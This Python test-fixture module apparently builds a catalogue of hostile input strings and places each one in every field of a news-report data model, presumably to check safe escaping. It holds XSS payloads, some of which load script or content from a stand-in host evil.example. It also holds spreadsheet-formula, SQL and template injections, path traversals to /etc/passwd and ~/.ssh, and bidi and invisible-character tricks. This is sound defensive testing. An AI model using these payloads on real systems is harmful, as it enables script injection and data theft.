"""Texts that try everything, made from a table of classes, and a record drawn from them.

Each text stands in every field that a report can fill: its text, title, outlet and address, names,
places, channels, words. What holds for these has to hold for any report.
"""

import itertools

from dragoman.types import (
    Actor,
    Commitment,
    Incident,
    Meeting,
    Position,
    Repair,
    Report,
    Span,
    Statement,
    Step,
    content_hash,
    identified,
    report_id,
)

_RUN = "document.title='owned'"
_HANDLERS = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"),
    ("input autofocus", "onfocus"), ("details open", "ontoggle"), ("video src=x", "onerror"),
    ("a href=#", "onmouseover"), ("marquee", "onstart"), ("select autofocus", "onfocus"),
    ("div tabindex=0", "onfocusin"), ("iframe", "onload"), ("audio src=x", "onerror"),
    ("p style=animation:x", "onanimationstart"), ("form", "onsubmit"),
    ("object data=x", "onerror"),
)  # fmt: skip
_TAGS = (
    "<iframe src=//evil.example></iframe>", "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><button>x</button>",
    "<math><mi xlink:href=//evil.example>x</mi></math>",
    "<template><img src=//evil.example></template>", "<plaintext>", "<textarea>",
    "<title>owned</title>", "<noscript><p>", "<!--", "<![CDATA[", "<?php echo 1 ?>",
    "</main></body></html>", "</mark></div></style></script></title></textarea>",
    "<a id=words name=main>", "<input name=q id=q>", "<dialog open>x</dialog>",
    "<svg><use href=//evil.example#x></svg>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}",
    "\x01javascript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:{run}", "file:///etc/passwd",
    "blob:https://evil.example/x", "//evil.example/x", "https://a@evil.example/%0d%0aX: y",
    "http://[::1", "view-source:javascript:{run}", "about:blank",
    "http://evil.example/?q=<script>{run}</script>",
)  # fmt: skip
_WRAPPED = ("{}", "[click]({})", '"><a href="{}">click</a>')
_CONTROLS = (*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x80, 0x85, 0x9B, 0x9F)
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_UNSEEN = "\u200b\u200c\u200d\u2060\u2063\ufeff\u00ad\u180e\u034f\u3164\U000e0041\ufffe\uffff\ufff9"
_FORMULAS = (
    '=HYPERLINK("https://evil.example")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=\u202e1", "＝1+1", "%0A=1", ";=1+1", '",=1+1,"',
)  # fmt: skip
_QUERIES = (
    "' OR 1=1 --", '"; DROP TABLE entry; --', "NEAR(a b, 5)", "a AND OR NOT b", '"unclosed',
    "col:val*", "^a -b", "(((", "*", "a* + b", "%_%", "\\", "{a b}", "NULL", "?1 :a @b $c",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "{% include '/etc/passwd' %}", "{# note #}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{name} {0}", "%s %(x)s %n", "{{ page.desk }}", "{{ ''.__class__ }}",
    "\\u003cscript\\u003e", "&lt;script&gt;", "&#x3c;b&#x3e;", "&amp;amp;",
)  # fmt: skip
_BREAKERS = (
    ']]> --> <!-- &lt;b&gt; "quoted" \'single\'', "| a | b |\n|---|---|", "# title", "- point",
    "1. point", "```code", "[x]: //evil.example", "![x](https://evil.example/y.png)",
    "**bold** __it__ ~~no~~", "<https://evil.example>", "www.evil.example", "a\\", "$x^2$",
    ":smile:", '"a","b"\r\n"c"', "BEGIN:VEVENT\r\nSUMMARY:x", "a;b,c\\n", "#set page(fill: red)",
    '#eval("1")', "$ sum $ <label> @ref", "\\input{x}", "<w:p/>", "&entity;",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>", "@prefix x: <y> .", '{"@context": "//evil.example"}',
)  # fmt: skip
_PATHS = (
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "%2e%2e%2f", "a/../../b", "CON",
    "a\x00.txt", "a?b#c", "~/.ssh/id", "\\\\host\\x",
)  # fmt: skip
_SHAPES = (
    "W"*3000, "https://example.org/"+"a"*2000, "あ"*1500, "١٢٣"*400, "🏳️‍🌈"*300, "a"+"\u0301"*400,
    "Z"+"\u0334\u0351\u0363"*150+"algo", "\u0e01"+"\u0e49"*200, "﷽"*200, "a-"*1000, "x "*1500,
    "\n"*300+"x", " \u00a0\u2003"*200+"x", "\u1f6a\u0345"*200, "line one\r\nline two",
    "line\u2028two\u2029three", "Ω"*900, "ab\u200b"*700,
)  # fmt: skip
_SCRIPTS = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script/x>{run}//</script>",
    '"><script>{run}</script>', "'><script>{run}</script>", "</script><script>{run}</script>",
    "<scr<script>ipt>{run}</script>", "<svg><script>{run}</script></svg>",
    "<script src=//evil.example/x.js></script>", '" autofocus onfocus="{run}', "' onclick='{run}",
)  # fmt: skip
CLASSES = {
    "script": tuple(text.format(run=_RUN) for text in _SCRIPTS),
    "handler": tuple(f"<{tag} {name}={_RUN}>" for tag, name in _HANDLERS),
    "markup": _TAGS,
    "address": tuple(
        wrap.format(scheme.format(run=_RUN))
        for scheme, wrap in itertools.product(_SCHEMES, _WRAPPED)
    ),
    "control": tuple(f"bell{chr(code)}[31mred" for code in _CONTROLS),
    "bidi": (*(f"left{char}thgir" for char in _BIDI), "\u202egnirts desrever\u2066", "\u202e" * 99),
    "unseen": tuple(f"na{char}me" for char in _UNSEEN),
    "formula": _FORMULAS,
    "query": _QUERIES,
    "template": _TEMPLATES,
    "breaker": _BREAKERS,
    "path": _PATHS,
    "shape": _SHAPES,
}
ATTACKS = tuple(text for texts in CLASSES.values() for text in texts)


def source(number):
    """What the report of a text is called as a file; no two may be called the same."""
    return f"{ATTACKS[number]}#{number}"


def _entries(report, number, attack, span):
    """Entries of every kind in which the text stands wherever one can."""
    step = Step(report=report, status="agreed", evidence=span)
    return (
        Report(
            id=report,
            evidence=(span,),
            source=source(number),
            sha256=content_hash(attack),
            outlet=attack,
            agency=attack,
            title=attack,
            language='en" onload="x' if number % 2 else "ar",
        ),
        Statement(
            evidence=(span,),
            mode="direct",
            content=attack,
            speaker=attack,
            side=attack,
            channel=attack,
            addressee=attack,
            via=(attack, attack),
        ),
        Position(evidence=(span,), party=attack, issue=attack, stance="demands", value=attack),
        Actor(evidence=(span,), name=attack, type="person", forms=(attack,)),
        Commitment(
            evidence=(span,),
            subject=attack,
            parties=(attack,),
            status="agreed",
            history=(step,),
        ),
        Incident(evidence=(span,), type=attack, event="X", place=attack, by=attack),
        Repair(evidence=(span,), garbled=attack, restored=attack, reason="spin"),
        Meeting(
            evidence=(span,),
            form="talks",
            status="held",
            place=attack,
            parties=(attack, "B"),
            heads={attack: attack},
            participants=(attack,),
        ),
    )


def record():
    """The entries of a report for each text, and the reports' texts by id."""
    texts, entries = {}, []
    for number, attack in enumerate(ATTACKS):
        text = f"They wrote: {attack}\nIt was told on Monday."
        report = report_id(source(number), text)
        texts[report] = text
        span = Span(report=report, start=12, end=12 + len(attack), text=attack)
        first, *rest = _entries(report, number, attack, span)
        entries += [first, *map(identified, rest)]
    return entries, texts
